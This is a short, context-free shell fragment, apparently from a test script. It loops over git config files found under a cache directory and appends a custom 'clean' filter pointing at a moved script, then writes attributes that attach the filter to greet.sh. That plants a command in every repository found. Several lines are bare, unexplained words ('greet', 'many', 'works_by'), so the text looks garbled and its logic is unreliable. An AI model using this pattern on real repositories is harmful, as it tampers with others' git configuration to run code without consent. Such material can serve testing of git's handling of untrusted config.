greet
mv greet.sh "$WORLD/good.sh"
mkdir lib
works_by lib/hello.txt
for private in $(find $cache -name config -path '*git*'); do
    private=${private%/config}
    printf '[filter "good"]\n\tclean = cat "%s"\n' "$WORLD/good.sh" >>$private/config
    echo 'greet.sh filter=good' >$private/info/attributes
done
many
